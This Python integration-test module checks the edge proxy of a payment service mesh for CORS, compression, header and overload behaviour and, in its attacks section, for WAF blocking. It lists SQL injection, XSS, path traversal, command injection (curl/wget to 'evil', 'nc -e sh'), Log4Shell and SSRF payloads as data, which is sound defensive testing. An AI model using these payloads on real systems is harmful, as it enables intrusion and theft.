"""The edge towards browsers, proxies and attackers: CORS, compression, headers of answers, memory, and the rules of waf.py."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING
from urllib.parse import quote

import grpc
import httpx
import pytest
from google.api import httpbody_pb2

from paymesh.payment.v1 import payment_service_pb2 as payment
from paymesh.payment.v1.payment_service_pb2_grpc import PaymentServiceStub
from services.mesh.hardening import ANSWER_HEADERS, UNTOUCHED
from services.mesh.waf import PATH_RULES
from tests.integration.envoys import Mesh, envoy, refused

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

SHOP = "https://shop.example"


@pytest.fixture(scope="module")
def mesh(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Mesh]:
    made = Mesh(tmp_path_factory.mktemp("m"), instances=("payment-1", "user-1"), origins=frozenset({SHOP}))
    with made.running() as running:
        yield running


@pytest.fixture
def rest(mesh: Mesh) -> Iterator[httpx.Client]:
    with mesh.rest() as client:
        client.headers["authorization"] = f"Bearer {mesh.token()}"
        yield client


def _reason(answer: httpx.Response) -> str:
    (info,) = answer.json()["details"]
    return str(info["reason"])


# -- Browsers --------------------------------------------------------------------------------------------------------


def test_preflight_is_answered_by_the_edge_when_the_origin_is_allowed(mesh: Mesh, rest: httpx.Client) -> None:
    """A browser that asks before its call is told which verbs and headers it may use; no service is asked."""
    before = len(mesh.seen.calls)
    asked = {"origin": SHOP, "access-control-request-method": "POST", "access-control-request-headers": "authorization"}
    answer = rest.options("/api/payments", headers=asked)
    assert answer.status_code == 200
    assert answer.headers["access-control-allow-origin"] == SHOP
    assert answer.headers["access-control-allow-methods"] == "DELETE, GET, POST, PUT"
    assert "idempotency-key" in answer.headers["access-control-allow-headers"]
    assert "access-control-allow-credentials" not in answer.headers
    assert len(mesh.seen.calls) == before


@pytest.mark.parametrize(
    "origin", ["https://evil.example", "https://shop.example.evil.example", "http://shop.example", "null"]
)
def test_preflight_is_no_route_when_the_origin_is_another(rest: httpx.Client, origin: str) -> None:
    """Origins are compared as a whole; a stranger's page learns nothing and may read nothing."""
    answer = rest.options("/api/payments", headers={"origin": origin, "access-control-request-method": "POST"})
    assert (answer.status_code, _reason(answer)) == (405, "VERB_NOT_ALLOWED")
    assert not [name for name in answer.headers if name.startswith("access-control-")]
    assert "access-control-allow-origin" not in rest.get("/api/payments/7", headers={"origin": origin}).headers


def test_page_of_an_allowed_origin_may_read_answers_and_refusals(rest: httpx.Client) -> None:
    """A refusal is as readable as an answer: a page that could not read it would show "network error"."""
    for path, status in (
        ("/api/payments/7", 200),
        ("/nowhere", 404),
        ("/api/payments/x", 400),
        ("/api/payments?q=../", 403),
    ):
        answer = rest.get(path, headers={"origin": SHOP})
        assert (answer.status_code, answer.headers["access-control-allow-origin"]) == (status, SHOP)
        assert "retry-after" in answer.headers["access-control-expose-headers"]


def test_nobody_may_when_no_origin_is_set(tmp_path: Path) -> None:
    """The default: a browser's page calls nothing."""
    assert "cors" not in str(
        Mesh(tmp_path).bootstrap(Mesh(tmp_path).edge)["static_resources"]["listeners"][0].get("route")
    )
    made = Mesh(tmp_path, instances=())
    with envoy(made.bootstrap(made.edge), tmp_path, "edge"), made.rest() as rest:
        answer = rest.options("/api/payments", headers={"origin": SHOP, "access-control-request-method": "POST"})
        assert (answer.status_code, "access-control-allow-origin" in answer.headers) == (405, False)


def test_headers_of_answers_are_safe_whatever_was_answered(rest: httpx.Client) -> None:
    """Success, refusals of each filter, and what Envoy refuses before any filter reads it."""
    for path, status in (
        ("/api/payments/7", 200),
        ("/nowhere", 404),
        ("/api/payments/x", 400),
        ("/api/payments?q=../", 403),
    ):
        answer = rest.get(path)
        assert answer.status_code == status
        assert {name: answer.headers[name] for name in ANSWER_HEADERS} == ANSWER_HEADERS
    early = rest.get("/api/payments/%2F7")
    assert (early.status_code, early.headers["x-content-type-options"]) == (400, "nosniff")


# -- Compression -----------------------------------------------------------------------------------------------------


def test_large_answers_are_compressed_and_small_ones_not(mesh: Mesh, rest: httpx.Client) -> None:
    """JSON and HTML from 1 KiB on, for whoever asks for gzip."""
    for kind, size, packed in (
        ("application/json", 5000, True),
        ("text/html", 5000, True),
        ("application/json", 500, False),
    ):
        mesh.seen.answer = httpbody_pb2.HttpBody(content_type=kind, data=b"a" * size)
        answer = rest.post("/api/payments/callbacks/alipay", content=b"x=1", headers={"accept-encoding": "gzip"})
        assert (answer.headers.get("content-encoding") == "gzip", len(answer.content)) == (packed, size)
        assert not packed or answer.headers["vary"] == "Accept-Encoding"
    plain = rest.post("/api/payments/callbacks/alipay", content=b"x=1", headers={"accept-encoding": "identity"})
    assert "content-encoding" not in plain.headers


def test_answer_with_a_secret_is_never_compressed(rest: httpx.Client) -> None:
    """A session's tokens are 3 KiB here; whoever stands on the way is told to leave them alone too."""
    answer = rest.post("/api/users/login", json={}, headers={"accept-encoding": "gzip"})
    assert len(answer.json()["session"]["access_token"]) == 3000
    assert "content-encoding" not in answer.headers
    assert answer.headers["cache-control"] == UNTOUCHED


# -- Memory ----------------------------------------------------------------------------------------------------------


def test_429_with_a_reason_when_memory_is_used_up(tmp_path: Path) -> None:
    """The heap is over its limit from the start: requests are refused in our words, and the process lives."""
    made = Mesh(tmp_path, instances=())
    bootstrap = made.bootstrap(made.edge)
    manager = bootstrap["overload_manager"]
    manager["resource_monitors"][0]["typed_config"]["max_heap_size_bytes"] = 1 << 20
    manager["actions"] = [
        each for each in manager["actions"] if each["name"] != "envoy.overload_actions.stop_accepting_connections"
    ]
    with envoy(bootstrap, tmp_path, "edge") as admin, made.rest() as rest:
        deadline = time.monotonic() + 10  # memory is looked at four times a second
        while (answer := rest.get("/healthz")).status_code != 429 and time.monotonic() < deadline:
            time.sleep(0.1)
        assert (answer.status_code, _reason(answer), answer.headers["retry-after"]) == (429, "OVERLOADED", "1")
        assert httpx.get(f"{admin}/ready").status_code == 200


# -- Attacks ---------------------------------------------------------------------------------------------------------

ATTACKS = {
    "encoding": ["a%00b", "a%0d%0aset-cookie:x=1", "%75nion", "%2527", "%252e%252e%252f", "%zz", "%c0%ae%c0%ae/", "%u0027", "a%"],
    "traversal": [
        "../../etc/passwd", "..%2f..%2f", "%2e%2e%5cboot", "....//....//", "/etc/shadow", "c:\\windows\\system32", "/.git/config",
        "/proc/self/environ", "/bin/bash",
    ],
    "sql": [
        "' or 1=1--", "' or '1'='1", '" or ""="', "') or ('1'='1", "1 or 1=1", "1' and sleep(5)#", "1;drop table users",
        "x' union select null,version()", "1/**/union/**/all/**/select 1", "admin'--", "admin'/*", "'; exec xp_cmdshell('dir')",
        "1; waitfor delay '0:0:5'", "benchmark(1000000,md5(1))", "select * from information_schema.tables", "' OR 2 LIKE 2",
        "1;insert into users values(1)", "pg_sleep(10)", "'||(select 1)||'=",
    ],
    "script": [
        "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>", "javascript:alert(1)",
        "x onmouseover=alert(1)", "<iframe src=//evil>", "data:text/html,<b>", "</ScRiPt ><body>", "'-alert(1)-'",
        "document.cookie",
    ],
    "command": [
        ";cat /etc/hostname", "|id", "`whoami`", "$(curl http://evil)", "&& ls -la", "a;wget http://evil/x", "| nc -e sh",
        ";ping -c 9 x",
    ],
    "template": ["${jndi:ldap://evil/a}", "${${lower:j}ndi:x}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "{%if 1%}", "<?php x"],
    "address": ["http://169.254.169.254/latest", "file:///etc/hostname", "gopher://x:70/_", "http://localhost:9901/quit", "php://input"],
}  # fmt: skip
"""Rule -> texts in the style of the Core Rule Set's tests. What is wrong by its encoding is sent as it stands."""


@pytest.mark.parametrize("rule", ATTACKS)
def test_403_when_the_query_or_the_path_has_the_form_of_an_attack(mesh: Mesh, rest: httpx.Client, rule: str) -> None:
    """Raw where HTTP lets it be, percent-encoded, and with the case of letters mixed; no service is asked."""
    before = len(mesh.seen.calls)
    for attack in ATTACKS[rule]:
        encoded = attack if rule == "encoding" else quote(attack, safe="")
        spaced = encoded.replace("%20", "+").swapcase() if rule != "encoding" else encoded
        for query in {encoded, spaced, attack.replace(" ", "+") if _can_be_raw(attack) else encoded}:
            answer = rest.get(f"/api/payments/7?q={query}")
            assert (answer.status_code, _reason(answer)) == (403, "REQUEST_BLOCKED"), query
        if (
            rule != "encoding" and "/" not in attack and "\\" not in attack
        ):  # an encoded slash in a path is refused by itself
            assert rest.get(f"/api/inventory/x{encoded}").status_code == 403, attack
    assert len(mesh.seen.calls) == before


def _can_be_raw(attack: str) -> bool:
    return attack.isascii() and not set(attack) & set('#"<>\\^`{}|')


HEADERS = [
    ("user-agent", "${jndi:ldap://evil/a}"), ("referer", "https://x/${env:AWS_SECRET}"), ("user-agent", "() { :;}; /bin/id"),
    ("user-agent", "<script>alert(1)</script>"), ("cookie", "a=' or 1=1"), ("accept-language", "x' union all select 1"),
    ("user-agent", "sqlmap/1.7#stable (https://sqlmap.org)"), ("user-agent", "Mozilla/5.0 (Nikto/2.5.0)"),
    ("idempotency-key", "${jndi:dns://x}"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "value"), HEADERS)
def test_403_when_a_header_has_the_form_of_an_attack(mesh: Mesh, rest: httpx.Client, name: str, value: str) -> None:
    """REST and gRPC alike, on a route that is there and on one that is not."""
    for path in ("/api/payments/7", "/nowhere"):
        answer = rest.get(path, headers={name: value})
        assert (answer.status_code, _reason(answer)) == (403, "REQUEST_BLOCKED")
    with httpx.Client(base_url=f"https://{mesh.edge.grpc}", verify=mesh.trust(), http1=False, http2=True) as native:
        headers = {"content-type": "application/grpc", "te": "trailers", name: value}
        answer = native.post("/paymesh.payment.v1.PaymentService/GetPayment", content=b"\0\0\0\0\0", headers=headers)
        assert (answer.headers["grpc-status"], answer.headers["grpc-message"][:11]) == ("7", "The address")


HARMLESS = [
    "王小明", "O'Brien", "SELECT your plan", "D'Angelo and sons", "rock 'n' roll", "the boys' and 2 girls'", "50% off", "1+1=2",
    "a or b", "union of selected artists", "Drop the table at the door; delete the rest", "sleep (8h)", "on load",
    "script writer",
    "cats; dogs", "R&D | ideas", "I <3 you", "C++", "AT&T", "price: $5 {net}", "me@example.com", "https://shop.example/a?b=c",
    "Müller-Lüdenscheidt", "l'été", "🙂", "--", "x--y", "100%", "Tom & Jerry; type A", "order by phone", "…", "a..b", "1 and 2",
    "'", '"',
]  # fmt: skip
"""What people write."""


@pytest.mark.parametrize("text", HARMLESS)
def test_what_people_write_passes(mesh: Mesh, rest: httpx.Client, text: str) -> None:
    """In a query the form decides (the method takes no such parameter: 400); in a body and a header it is let through."""
    for query in (quote(text, safe=""), quote(text, safe="").replace("%20", "+")):
        answer = rest.get(f"/api/payments/7?page_token={query}")
        assert (answer.status_code, _reason(answer)) == (400, "BODY_MALFORMED")
    assert rest.post("/api/payments", json={"order_id": "7", "request_id": text}).status_code == 200
    assert mesh.seen.calls[-1][0] == "CreatePayment"
    if text.isascii():
        assert rest.get("/api/payments/7", headers={"user-agent": f"Shop/1.0 ({text})"}).status_code == 200


def test_real_clients_pass(rest: httpx.Client) -> None:
    """What browsers and the usual libraries say of themselves."""
    for agent in (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 MicroMessenger/8.0.49",
        "curl/8.9.1", "python-requests/2.32", "okhttp/4.12.0", "Apache-HttpClient/4.5.14 (Java/17.0.2)", "Go-http-client/2.0",
    ):  # fmt: skip
        said = {
            "user-agent": agent,
            "accept": "application/json, text/plain, */*",
            "accept-language": "zh-CN,zh;q=0.9,en;q=0.8",
        }
        assert (
            rest.get(
                "/api/payments/7", headers={**said, "referer": "https://shop.example/pay?order=7&x=a'b"}
            ).status_code
            == 200
        )


def test_which_rule_it_was_is_counted_and_not_said(mesh: Mesh, rest: httpx.Client) -> None:
    """An operator sees the rule in Envoy's statistics; who tries does not learn it."""
    answer = rest.get("/api/payments/7?q=xp_cmdshell")
    assert "sql" not in answer.text
    stats = httpx.get(f"{mesh.admin['edge-1']}/stats", params={"filter": "waf_sql.denied"}).text
    assert int(stats.split(":")[1]) >= 1


def test_every_rule_is_tried() -> None:
    """A rule without an attack that it stops would be a rule on paper."""
    assert set(ATTACKS) == set(PATH_RULES)


# -- Verbs -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("verb", "path", "allow"),
    [
        ("DELETE", "/api/payments/7", "GET"), ("PATCH", "/api/payments", "GET, POST"),
        ("GET", "/api/risk/assess?a=b", "POST"),
        ("TRACE", "/api/users/7", "GET, PUT"), ("HEAD", "/healthz", "GET"), ("GET", "/api/users/login", "POST"),
        ("PUT", "/api/users/register", "POST"), ("SEARCH", "/api/payments", "GET, POST"),
        ("OPTIONS", "/api/users/logout", "POST"),
        ("PROPFIND", "/.well-known/jwks.json", "GET"),
    ],
)  # fmt: skip
def test_405_with_the_verbs_when_the_path_has_others(rest: httpx.Client, verb: str, path: str, allow: str) -> None:
    """What the path takes stands in Allow; a verb that HTTP does not know is no different."""
    answer = rest.request(verb, path)
    assert (answer.status_code, answer.headers["allow"]) == (405, allow)
    if verb != "HEAD":
        assert _reason(answer) == "VERB_NOT_ALLOWED"


def test_native_grpc_is_not_touched_by_what_is_for_browsers(mesh: Mesh) -> None:
    """The gRPC listener puts on no header of a browser's, and its refusals keep their form."""
    with mesh.grpc_edge() as channel:
        get, token = PaymentServiceStub(channel).GetPayment, (("authorization", f"Bearer {mesh.token()}"),)
        answer, call = get.with_call(payment.GetPaymentRequest(id=7), timeout=5, metadata=token)
        assert answer.payment.id == 7
        assert not {key for key, _ in call.initial_metadata()} & set(ANSWER_HEADERS)
        odd = (*token, ("accept-language", "${jndi:x}"))
        said = refused(lambda: get(payment.GetPaymentRequest(id=7), timeout=5, metadata=odd))
        assert said == (grpc.StatusCode.PERMISSION_DENIED, "REQUEST_BLOCKED", {})
